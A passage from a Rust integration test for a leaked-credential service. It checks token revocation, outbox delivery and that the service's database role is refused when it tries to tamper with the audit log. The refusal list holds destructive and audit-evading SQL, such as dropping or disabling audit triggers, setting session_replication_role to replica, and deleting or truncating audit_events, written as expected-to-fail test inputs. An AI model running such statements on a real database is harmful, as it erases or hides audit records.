        ]))
        .await;
    let settings = [
        ("DATABASE_URL", as_role(&service)),
        ("BIND", "127.0.0.1:0".to_string()),
        ("GITHUB_KEYS_URL", keys.url.clone()),
        ("MAIL_DIR", dir.path().join("mail").display().to_string()),
        ("OUTBOX_POLL_SECS", "0.2".to_string()),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect();
    let app = TestApp::start(settings, key, keys, dir.clone()).await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    let source = create_source(&app, &ws.owner_token, "web").await;
    let (leaked, _) = app.mint(&ws, "leaked", "member").await;
    assert_eq!(app.report(&[&leaked]).await[0]["label"], "true_positive");
    assert_eq!(app.get("/", &leaked).await.status(), 401);
    let path = format!("/sources/{}", id(&source));
    assert_eq!(app.delete(&path, &ws.owner_token).await.status(), 200);
    assert_eq!(
        app.wait_for_count(
            "SELECT COUNT(*) FROM outbox WHERE sent_at IS NOT NULL",
            1,
            20
        )
        .await,
        1
    );
    let ready = app.client.get(app.url("/readyz")).send().await.unwrap();
    assert_eq!(ready.status(), 200);

    // What the service's role cannot do.
    let mut as_service = sqlx::PgConnection::connect(&as_role(&service))
        .await
        .unwrap();
    let refusals = [
        (
            "ALTER TABLE audit_events DISABLE TRIGGER USER",
            "must be owner",
        ),
        (
            "ALTER TABLE workspaces DISABLE TRIGGER USER",
            "must be owner",
        ),
        (
            "DROP TRIGGER audit_events_no_update_delete ON audit_events",
            "must be owner",
        ),
        (
            "CREATE OR REPLACE FUNCTION audit_events_append_only() RETURNS trigger \
             AS $$ BEGIN RETURN NEW; END; $$ LANGUAGE plpgsql",
            "permission denied",
        ),
        (
            "SET session_replication_role = replica",
            "permission denied",
        ),
        (
            "UPDATE audit_events SET resource_name = 'x'",
            "permission denied",
        ),
        ("DELETE FROM audit_events", "permission denied"),
        ("TRUNCATE audit_events", "permission denied"),
        (
            "UPDATE workspaces SET audit_seq = 0, audit_head = ''",
            "only moves forward",
        ),
        ("DELETE FROM _sqlx_migrations", "permission denied"),
        ("CREATE TABLE scratch (x int)", "permission denied"),
    ];
    for (sql, expected) in refusals {
        let err = sqlx::raw_sql(sql)
            .execute(&mut as_service)
            .await
            .expect_err(sql)
            .to_string();
        assert!(err.contains(expected), "{sql}: {err}");
    }
    as_service.close().await.unwrap();
    assert_eq!(leakguard::audit::verify(&app.db).await.unwrap().1, vec![]);

    app.stop().await;
    as_owner.close().await.unwrap();
    sqlx::query(&format!("DROP DATABASE {db_name} WITH (FORCE)"))
        .execute(&mut admin)
        .await
        .unwrap();
    for role in [&service, &owner] {
        sqlx::query(&format!("DROP ROLE {role}"))
            .execute(&mut admin)
            .await
            .unwrap();
    }
}
